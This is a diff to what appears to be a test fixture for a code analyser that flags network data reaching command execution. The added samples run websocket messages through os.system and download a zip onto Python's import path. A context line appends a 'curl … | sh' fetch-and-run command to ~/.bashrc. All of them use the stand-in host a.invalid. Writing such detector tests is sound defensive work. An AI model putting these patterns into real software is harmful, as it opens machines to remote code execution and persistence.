@@ -147,6 +147,26 @@ def text():
     ],
   ],
   [
+    'a handler that a socket is made with, whichever of its parameters is the message',
+    `import os, websocket
+def on_message(socket, message):
+    os.system(message)
+websocket.WebSocketApp('wss://a.invalid', on_message=on_message).run_forever()`,
+    ['flow'],
+    ['own.py:3 import flow network-response websocket.WebSocketApp wss://a.invalid > process os.system …'],
+  ],
+  [
+    'an archive that is put onto the search path',
+    `import sys, urllib.request
+urllib.request.urlretrieve('https://a.invalid/p.zip', '/tmp/own.zip')
+sys.path.insert(0, '/tmp/own.zip')`,
+    ['flow'],
+    [
+      'own.py:2 import flow network-response urllib.request.urlretrieve https://a.invalid/p.zip > file-write urllib.request.urlretrieve /tmp/own.zip',
+      'own.py:3 import flow network-response urllib.request.urlretrieve https://a.invalid/p.zip > code-execution sys.path.insert /tmp/own.zip by written to /tmp/own.zip:2',
+    ],
+  ],
+  [
     'a line for a shell profile',
     `import os
 open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://a.invalid | sh')`,
